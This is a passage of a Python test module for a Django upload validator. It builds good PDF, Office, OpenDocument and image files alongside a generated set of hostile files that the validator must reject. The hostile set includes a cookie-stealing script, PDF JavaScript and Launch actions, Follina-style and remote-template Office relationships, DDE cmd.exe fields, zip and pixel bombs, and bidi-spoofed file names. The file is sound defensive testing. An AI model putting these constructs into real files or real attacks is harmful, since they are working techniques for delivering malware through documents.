"""Upload checks (core/uploads.py): good files of every allowed type, and a generated malicious set.

The builders here are reused by tests/engagement/test_evidence.py to send the same set through the
real upload view.
"""

import io
import os
import shutil
import struct
import subprocess
import tempfile
import unicodedata
import zipfile
import zlib

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, ImageFile

from involve.core import uploads

MB = 1024 * 1024


# ---------------------------------------------------------------------------------------------
# Builders for good files


def minimal_pdf(text: str = "Evidence of involvement") -> bytes:
    """A small but valid one-page PDF with a line of text, written by hand (no PDF library needed)."""
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1", "replace")
    stream = b"BT /F1 12 Tf 20 100 Td (" + escaped + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def build_pdf(
    objects: list[bytes], *, trailer: bytes = b"", compressed: dict[int, bytes] | None = None, **stream
) -> bytes:
    """A PDF from object bodies (object 1 is the catalog), with a classic cross-reference table.

    With `compressed`, those objects ({number: body}) go into an object stream, as WeasyPrint and Word
    write them, and a cross-reference stream says where each one is, as a reader needs. `stream` sets
    the object stream's dictionary: filter (default FlateDecode, None for none), declared (/Type
    /ObjStm, default True).
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    size = len(objects) + 1
    if not compressed:
        xref = len(out)
        out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
        for number in range(1, size):
            out += f"{offsets[number]:010d} 00000 n \n".encode()
        out += b"trailer\n<< /Size " + str(size).encode() + b" /Root 1 0 R " + trailer + b" >>\n"
        return bytes(out + f"startxref\n{xref}\n%%EOF\n".encode())
    # The object stream: "number offset" pairs, then the objects.
    numbers = sorted(compressed)
    header, body, index = b"", b"", {}
    for i, number in enumerate(numbers):
        header += f"{number} {len(body)} ".encode()
        body += compressed[number] + b"\n"
        index[number] = i
    content = header + b"\n" + body
    filter_name = stream.get("filter", b"FlateDecode")
    encode = {b"FlateDecode": zlib.compress, b"ASCIIHexDecode": lambda b: b.hex().encode() + b">"}
    data = encode[filter_name](content) if filter_name else content
    objstm = max([len(objects), *numbers]) + 1
    entries = b"/Type /ObjStm " if stream.get("declared", True) else b""
    entries += f"/N {len(numbers)} /First {len(header) + 1} ".encode()
    if filter_name:
        entries += b"/Filter /" + filter_name + b" "
    offsets[objstm] = len(out)
    out += f"{objstm} 0 obj\n<< ".encode() + entries + f"/Length {len(data)} >>\nstream\n".encode()
    out += data + b"\nendstream\nendobj\n"
    # The cross-reference stream: type 1 (offset) for plain objects, type 2 (object stream, index) for the rest.
    xref_number = max([objstm, *numbers]) + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in index:
            rows += struct.pack(">BIH", 2, objstm, index[number])
        elif number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    out += (
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] /Root 1 0 R ".encode()
        + trailer
        + f" /Length {len(rows)} >>\nstream\n".encode()
    )
    out += rows + b"\nendstream\nendobj\n"
    return bytes(out + f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode())


PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
]


def pdf_with_catalog(catalog_extra: bytes, *more: bytes, page_extra: bytes = b"") -> bytes:
    """A one-page PDF whose catalog (object 1) has `catalog_extra`; `more` become objects 4, 5, …"""
    page = PAGES[1].replace(b" >>", b" " + page_extra + b" >>") if page_extra else PAGES[1]
    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", PAGES[0], page, *more])


def weasyprint_pdf() -> bytes:
    import weasyprint

    return weasyprint.HTML(
        string='<h1 id="top">Workshop</h1><p><a href="https://www.example.nhs.uk/JS/AA/Launch">Report</a> '
        '<a href="#top">Back to the top</a></p><table><tr><td>42</td></tr></table>'
    ).write_pdf()


def docx_bytes(text: str = "Workshop notes") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Question", "Responses"])
    workbook.active.append(["Travel to the new site", 42])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _zip(entries: dict[str, bytes], stored_first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(zipfile.ZipInfo(stored_first), entries[stored_first], compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            if name != stored_first:
                archive.writestr(name, data)
    return buffer.getvalue()


def pptx_bytes() -> bytes:
    content_types = (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName='
        b'"/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.'
        b'presentation.main+xml"/></Types>'
    )
    return _zip(
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"/>',
            "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats'
            b'.org/presentationml/2006/main"/>',
        }
    )


def odf_bytes(mimetype: str) -> bytes:
    return _zip(
        {
            "mimetype": mimetype.encode(),
            "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
            b'opendocument:xmlns:office:1.0"/>',
            "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest '
            b'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        },
        stored_first="mimetype",
    )


def image_bytes(fmt: str, exif_gps: bool = False) -> bytes:
    image = Image.new("RGB", (40, 30), (0, 94, 184))
    buffer = io.BytesIO()
    if exif_gps:
        exif = Image.Exif()
        exif[0x010F] = "PhoneMaker"  # Make
        exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS IFD: where the photo was taken
        image.save(buffer, fmt, exif=exif)
    else:
        image.save(buffer, fmt)
    return buffer.getvalue()


def good_files() -> dict[str, tuple[str, bytes, str]]:
    """name → (file name, bytes, the content type it is stored with)."""
    return {
        "pdf": ("Workshop report.pdf", minimal_pdf(), "application/pdf"),
        "docx": ("Notes.docx", docx_bytes(), uploads.DOCX.content_type),
        "xlsx": ("Survey results.xlsx", xlsx_bytes(), uploads.XLSX.content_type),
        "pptx": ("Slides.pptx", pptx_bytes(), uploads.PPTX.content_type),
        "odt": ("Minutes.odt", odf_bytes(uploads.ODT.content_type), uploads.ODT.content_type),
        "ods": ("Attendance.ods", odf_bytes(uploads.ODS.content_type), uploads.ODS.content_type),
        "csv": (
            "responses.csv",
            'date,comment\n2025-03-01,"Parking, again"\n2025-03-02,Café was shut\n'.encode(),
            "text/csv",
        ),
        "txt": ("notes.txt", b"Plain notes from the drop-in session.\nThanks to everyone who came.\n", "text/plain"),
        "png": ("flipchart.png", image_bytes("PNG"), "image/png"),
        "jpeg": ("photo.jpeg", image_bytes("JPEG"), "image/jpeg"),
        "jpg": ("photo.jpg", image_bytes("JPEG", exif_gps=True), "image/jpeg"),
    }


# ---------------------------------------------------------------------------------------------
# Builders for the malicious set


HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)


def zip_bomb_ratio() -> bytes:
    """A .docx whose one extra part is 20 MB of zeros compressed to about 20 KB (ratio ~1000)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<w:document/>")
        archive.writestr("word/media/bomb.bin", b"\0" * (20 * MB))
    return buffer.getvalue()


def zip_bomb_lying() -> bytes:
    """A .docx whose part says it is 100 bytes but expands to 4 MB: the sizes in both headers are forged."""
    real = b"\0" * (4 * MB)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", real)
    data = bytearray(buffer.getvalue())
    forged = struct.pack("<I", 100)
    # Local header: uncompressed size at offset 22; central directory entry: at offset 24.
    start = 0
    while (i := data.find(b"PK\x03\x04", start)) != -1:
        name_len = struct.unpack("<H", data[i + 26 : i + 28])[0]
        if data[i + 30 : i + 30 + name_len] == b"word/document.xml":
            data[i + 22 : i + 26] = forged
        start = i + 4
    start = 0
    while (i := data.find(b"PK\x01\x02", start)) != -1:
        name_len = struct.unpack("<H", data[i + 28 : i + 30])[0]
        if data[i + 46 : i + 46 + name_len] == b"word/document.xml":
            data[i + 24 : i + 28] = forged
        start = i + 4
    return bytes(data)


def zip_many_entries() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        for n in range(uploads.ZIP_MAX_ENTRIES + 1):
            archive.writestr(f"xl/p/{n}", b"")
    return buffer.getvalue()


def zip_encrypted() -> bytes:
    """A .docx whose parts claim to be encrypted (general-purpose flag bit 0 set in both headers)."""
    data = bytearray(docx_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (i := data.find(signature, start)) != -1:
            data[i + offset] |= 0x1
            start = i + 4
    return bytes(data)


def docx_with_macros() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    return buffer.getvalue()


def png_pixel_bomb() -> bytes:
    """A tiny PNG whose header claims 30,000 × 30,000 pixels (900 million: gigabytes once decoded)."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def rezip(data: bytes, add: dict[str, bytes] | None = None, change=None) -> bytes:
    """A copy of a ZIP container with parts added or replaced; change(name, bytes) may rewrite each part."""
    add = dict(add or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            body = add.pop(item.filename, None) or source.read(item)
            target.writestr(item, change(item.filename, body) if change else body)
        for name, body in add.items():
            target.writestr(name, body)
    return buffer.getvalue()


RELS = b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_with_relationship(
    rel_type: str, target: str, external: bool = True, part="word/_rels/document.xml.rels", mode="External"
):
    """A Word document with one more relationship (in document.xml.rels unless `part` says otherwise)."""
    mode = f' TargetMode="{mode}"' if external else ""
    rel = f'<Relationship Id="rId99" Type="{OFFICE_REL}{rel_type}" Target="{target}"{mode}/>'.encode()

    def change(name, body):
        return body.replace(b"</Relationships>", rel + b"</Relationships>") if name == part else body

    data = docx_bytes()
    if part not in zipfile.ZipFile(io.BytesIO(data)).namelist():
        return rezip(data, {part: RELS + rel + b"</Relationships>"})
    return rezip(data, change=change)


def with_content_type(data: bytes, part: str, content_type: str) -> bytes:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()

    def change(name, body):
        return body.replace(b"</Types>", override + b"</Types>") if name == "[Content_Types].xml" else body

    return rezip(data, change=change)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def odf_with(
    content: bytes = b"", mimetype: str = uploads.ODT.content_type, parts=None, manifest: bytes = b""
) -> bytes:
    """An OpenDocument file whose content.xml body holds `content`, with extra parts and manifest entries."""
    entries = {
        "mimetype": mimetype.encode(),
        "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
        b'xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:'
        b'names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts/>'
        b"<office:body><office:text>" + content + b"</office:text></office:body></office:document-content>",
        "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        b'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="'
        + mimetype.encode()
        + b'"/>'
        + manifest
        + b"</manifest:manifest>",
        **(parts or {}),
    }
    return _zip(entries, stored_first="mimetype")


def embedded_package(inner: bytes, name="word/embeddings/Microsoft_Excel_Worksheet.xlsx") -> bytes:
    """A Word document with a package under word/embeddings/, as a chart keeps its workbook."""
    return rezip(docx_bytes(), {name: inner})


def png_header_only(width: int, height: int) -> bytes:
    """A PNG of a few dozen bytes whose header claims width × height pixels."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) is rewritten to claim width × height pixels."""
    data = bytearray(image_bytes("JPEG"))
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def script_annotation(number: int) -> bytes:
    """Object `number`: a link that runs a script when clicked."""
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return f"{number} 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ".encode() + action + b" >> endobj"


def link_action(action: bytes) -> bytes:
    """A PDF whose page has a link that does `action` when clicked."""
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A " + action + b" >>"
    return pdf_with_catalog(b"", annotation, page_extra=b"/Annots [4 0 R]")


def reachable(pdf: bytes, number: int) -> bytes:
    """Add an update to the cross-reference table that points object `number` at where its text is,
    wherever that is (inside a string, a comment or a stream): a reader jumps straight there."""
    previous = int(pdf.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    offset = pdf.index(f"{number} 0 obj ".encode())
    xref = len(pdf)
    update = (
        f"xref\n{number} 1\n{offset:010d} 00000 n \ntrailer\n<< /Size {number + 1} /Root 1 0 R /Prev {previous} >>\n"
        f"startxref\n{xref}\n%%EOF\n"
    )
    return pdf + update.encode()


JS = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
# The whole document in an object stream, the script included.
COMPRESSED_JS = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: PAGES[0],
    3: PAGES[1].replace(b" >>", b" /AA << /O 4 0 R >> >>"),
    4: JS,
}


def hostile_pdfs() -> dict[str, tuple[str, bytes]]:
    annot = b"/Annots [4 0 R]"
    return {
        "pdf OpenAction JavaScript": ("report.pdf", pdf_with_catalog(b"/OpenAction " + JS)),
        "pdf OpenAction by reference": ("report.pdf", pdf_with_catalog(b"/OpenAction 4 0 R", JS)),
        "pdf OpenAction opening a web address": (
            "report.pdf",
            pdf_with_catalog(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
        ),
        "pdf OpenAction by reference to a print action": (
            "report.pdf",
            pdf_with_catalog(b"/OpenAction 4 0 R", b"<< /S /Named /N /Print >>"),
        ),
        "pdf OpenAction GoTo with another action after it": (
            "report.pdf",
            pdf_with_catalog(
                b"/OpenAction 4 0 R", b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://e.example/) >> >>"
            ),
        ),
        "pdf JavaScript name tree": (
            "report.pdf",
            pdf_with_catalog(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>", JS.replace(b"/S /JavaScript ", b"")),
        ),
        "pdf page AA": ("report.pdf", pdf_with_catalog(b"", JS, page_extra=b"/AA << /O 4 0 R >>")),
        "pdf Launch": (
            "report.pdf",
            pdf_with_catalog(
                b"",
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (cmd.exe) >> >>",
                page_extra=annot,
            ),
        ),
        "pdf EmbeddedFile": (
            "report.pdf",
            pdf_with_catalog(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] "
                b">> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
        ),
        "pdf RichMedia": (
            "report.pdf",
            pdf_with_catalog(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page_extra=annot),
        ),
        "pdf SubmitForm": ("report.pdf", link_action(b"<< /S /SubmitForm /F (https://evil.example/) >>")),
        "pdf ImportData": ("report.pdf", link_action(b"<< /S /ImportData /F (x.fdf) >>")),
        "pdf GoToR": ("report.pdf", link_action(b"<< /S /GoToR /F (\\\\evil\\x.pdf) /D [0 /Fit] >>")),
        "pdf XFA form": ("report.pdf", pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"(<xdp/>)")),
        "pdf name escapes /J#61vaScript": (
            "report.pdf",
            link_action(b"<< /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>"),
        ),
        "pdf JavaScript in a compressed object stream": ("report.pdf", build_pdf([], compressed=COMPRESSED_JS)),
        "pdf object stream without /Type": ("report.pdf", build_pdf([], compressed=COMPRESSED_JS, declared=False)),
        "pdf object stream in ASCIIHex (not read)": (
            "report.pdf",
            build_pdf([], compressed=COMPRESSED_JS, filter=b"ASCIIHexDecode"),
        ),
        "pdf object hidden in a string": (
            "report.pdf",
            reachable(
                pdf_with_catalog(b"", b"(cover " + script_annotation(6) + b")", page_extra=b"/Annots [6 0 R]"), 6
            ),
        ),
        "pdf object hidden in a comment": (
            "report.pdf",
            reachable(pdf_with_catalog(b"", b"null % " + script_annotation(6), page_extra=b"/Annots [6 0 R]"), 6),
        ),
        "pdf object hidden in another stream's data": (
            "report.pdf",
            reachable(
                pdf_with_catalog(
                    b"",
                    b"<< /Length 60 >>\nstream\n" + script_annotation(6).ljust(60) + b"\nendstream",
                    page_extra=b"/Annots [6 0 R]",
                ),
                6,
            ),
        ),
        "pdf encrypted": (
            "report.pdf",
            pdf_with_catalog(b"").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 >>"),
        ),
    }


def hostile_office_files() -> dict[str, tuple[str, bytes]]:
    script = (
        b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    )
    return {
        "odt with Basic macros": (
            "minutes.odt",
            odf_with(parts={"Basic/script-lc.xml": b"<x/>", "Basic/Standard/Module1.xml": b"<x/>"}),
        ),
        "ods with a Scripts folder": (
            "attendance.ods",
            odf_with(
                mimetype=uploads.ODS.content_type, parts={"Scripts/python/run.py": b"import os; os.system('calc')"}
            ),
        ),
        "odt with a macro only in the manifest": (
            "minutes.odt",
            odf_with(
                manifest=b'<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" '
                b'manifest:media-type="text/xml"/>'
            ),
        ),
        "odt with office:event-listeners": (
            "minutes.odt",
            odf_with(b"<office:event-listeners>" + script + b"</office:event-listeners>"),
        ),
        "ods with an event listener under another prefix": (
            "attendance.ods",
            odf_with(
                b'<ev:event-listener xmlns:ev="urn:oasis:names:tc:opendocument:xmlns:script:1.0" ev:event-name="x"/>',
                mimetype=uploads.ODS.content_type,
            ),
        ),
        "odt with a vnd.sun.star.script: link": (
            "minutes.odt",
            odf_with(
                b'<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">'
                b"Open</text:a></text:p>"
            ),
        ),
        "odt with an escaped macro link": (
            "minutes.odt",
            odf_with(b'<text:p><text:a xlink:href="vnd.sun.star.scr&#105;pt:Standard.M.Main">Open</text:a></text:p>'),
        ),
        "odt with inline text:script": (
            "minutes.odt",
            odf_with(b'<text:script script:language="Basic">Shell("calc")</text:script>'),
        ),
        "odt with an OLE object": (
            "minutes.odt",
            odf_with(
                parts={"Object 1": OLE},
                manifest=b'<manifest:file-entry manifest:full-path="Object 1" '
                b'manifest:media-type="application/vnd.sun.star.oleobject"/>',
            ),
        ),
        "odt encrypted in its manifest": (
            "minutes.odt",
            odf_with(
                manifest=b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
                b'<manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>'
            ),
        ),
        "odt with an XML entity bomb": (
            "minutes.odt",
            odf_with(
                parts={
                    "styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
                }
            ),
        ),
        "docx with a remote attachedTemplate": (
            "letter.docx",
            docx_with_relationship(
                "attachedTemplate", "https://evil.example/template.dotm", part="word/_rels/settings.xml.rels"
            ),
        ),
        "docx with an attachedTemplate on another server": (
            "letter.docx",
            docx_with_relationship(
                "attachedTemplate", "file://evil.example/share/t.dotm", part="word/_rels/settings.xml.rels"
            ),
        ),
        "docx with an external OLE object (Follina)": (
            "letter.docx",
            docx_with_relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
        ),
        "docx with an external picture": (
            "letter.docx",
            docx_with_relationship("image", "file://evil.example/share/pixel.png"),
        ),
        "docx with an external relationship written with entities": (
            "letter.docx",
            docx_with_relationship("frame", "https://evil.example/", mode="Extern&#97;l"),
        ),
        "docx hyperlink to ms-msdt:": ("letter.docx", docx_with_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        "docx with an embedded OLE object": (
            "letter.docx",
            with_content_type(
                rezip(docx_bytes(), {"word/embeddings/oleObject1.bin": OLE}),
                "word/embeddings/oleObject1.bin",
                "application/vnd.openxmlformats-officedocument.oleObject",
            ),
        ),
        "docx with an OLE object under a picture's name": (
            "letter.docx",
            rezip(docx_bytes(), {"word/media/image9.png": OLE}),
        ),
        "docx with an oleObject relationship": (
            "letter.docx",
            docx_with_relationship("oleObject", "embeddings/x.bin", external=False),
        ),
        "docx with ActiveX": (
            "letter.docx",
            rezip(docx_bytes(), {"word/activeX/activeX1.xml": b"<ax/>", "word/activeX/activeX1.bin": b"\0" * 64}),
        ),
        "docx declaring a macro-enabled main part": (
            "letter.docx",
            with_content_type(
                docx_bytes(), "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
            ),
        ),
        "xlsx with links to other workbooks": (
            "survey.xlsx",
            rezip(
                xlsx_bytes(),
                {
                    "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" '
                    b'ddeTopic="/c calc"/></externalLink>'
                },
            ),
        ),
        "pptx with an external OLE object": (
            "slides.pptx",
            rezip(
                pptx_bytes(),
                {
                    "ppt/_rels/presentation.xml.rels": RELS
                    + f'<Relationship Id="rId1" Type="{OFFICE_REL}oleObject" Target="https://evil.example/x" '
                    'TargetMode="External"/></Relationships>'.encode()
                },
            ),
        ),
        "docx with a zip bomb inside its embeddings": ("letter.docx", embedded_package(zip_bomb_ratio())),
        "docx with macros inside its embedded workbook": (
            "letter.docx",
            embedded_package(docx_with_macros(), "word/embeddings/x.docx"),
        ),
        "docx with a plain zip inside": (
            "letter.docx",
            embedded_package(_zip({"payload.exe": b"MZ"}), "word/embeddings/x.zip"),
        ),
        "docx with a zip under media": ("letter.docx", rezip(docx_bytes(), {"word/media/image1.png": xlsx_bytes()})),
        "docx with a package two levels deep": (
            "letter.docx",
            embedded_package(embedded_package(xlsx_bytes()), "word/embeddings/inner.docx"),
        ),
        "docx with a DDEAUTO field split over two runs": (
            "letter.docx",
            docx_with_body(
                b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
                b'<w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>'
                b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
                b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
        ),
        "docx with a DDE simple field": (
            "letter.docx",
            docx_with_body(
                b'<w:p><w:fldSimple w:instr=\' DDE "cmd" "/c calc"\'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
            ),
        ),
        "xlsx with a DDE formula": ("figures.xlsx", xlsx_with_formula("=cmd|' /C calc'!A0")),
        "xlsx with a data connection": (
            "figures.xlsx",
            rezip(xlsx_bytes(), {"xl/connections.xml": b'<connections><connection id="1" name="q"/></connections>'}),
        ),
    }


def docx_with_body(xml: bytes) -> bytes:
    """A Word document with more paragraphs at the start of its body (raw WordprocessingML)."""

    def change(name, body):
        return body.replace(b"<w:body>", b"<w:body>" + xml, 1) if name == "word/document.xml" else body

    return rezip(docx_bytes(), change=change)


def xlsx_with_formula(formula: str) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = 3
    workbook.active["B1"] = formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def hostile_images() -> dict[str, tuple[str, bytes]]:
    return {
        "png claiming 100,000 x 100,000 pixels": ("huge.png", png_header_only(100_000, 100_000)),
        "png claiming 8,000 x 8,000 pixels (under Pillow's own limit)": ("big.png", png_header_only(8_000, 8_000)),
        "jpeg claiming 65,535 x 65,535 pixels": ("huge.jpg", jpeg_claiming(65_535, 65_535)),
    }


def bidi_named_files() -> dict[str, tuple[str, bytes]]:
    """Good content under names with direction controls: check_upload refuses them. (Through a web form
    they never get that far: Django's multipart parser drops unprintable characters from file names,
    so the name stored is already plain; see test_a_spoofed_name_sent_through_the_page_arrives_plain.)"""
    pdf = minimal_pdf()
    return {
        "right-to-left override in a pdf's name": ("report\u202etxt.pdf", pdf),
        "right-to-left override, exe made to look like a pdf": ("invoice\u202efdp.pdf", pdf),
        "isolate controls in the name": ("report\u2067fdp\u2069.pdf", pdf),
        "right-to-left mark in the name": ("report\u200f.pdf", pdf),
        "arabic letter mark in the name": ("report\u061c.pdf", pdf),
        "override written as an HTML entity": ("invoice&#8238;fdp.pdf", pdf),
    }


def malicious_files(max_bytes: int) -> dict[str, tuple[str, bytes]]:
    """name → (file name, bytes). Every one must be rejected; none may be stored."""
    jpeg = image_bytes("JPEG")
    pdf = minimal_pdf()
    return {
        "oversized pdf": ("big.pdf", pdf + b"%" * (max_bytes + 1 - len(pdf))),
        "empty file": ("empty.pdf", b""),
        "html renamed .pdf": ("report.pdf", HTML),
        "html renamed .csv": ("responses.csv", HTML),
        "html with bom and spaces renamed .csv": ("responses.csv", b"\xef\xbb\xbf  \n<script>alert(1)</script>"),
        "html renamed .txt": ("notes.txt", b"<html><body onload=alert(1)>hi</body></html>"),
        "html before %PDF (libmagic says PDF)": ("report.pdf", b"<html><script>alert(1)</script></html>\n" + pdf),
        "svg with script": ("chart.svg", SVG),
        "svg renamed .png": ("chart.png", SVG),
        "xml renamed .txt": ("data.txt", b'<?xml version="1.0"?><data><x>1</x></data>'),
        "polyglot jpeg/html": ("photo.jpg", jpeg[:-2] + b"<html><script>alert(1)</script></html>" + jpeg[-2:]),
        "polyglot pdf/html": ("report.pdf", pdf.replace(b"%%EOF", b"<script>alert(1)</script>\n%%EOF")),
        "polyglot pdf/zip": ("report.pdf", pdf + _zip({"payload.html": HTML})),
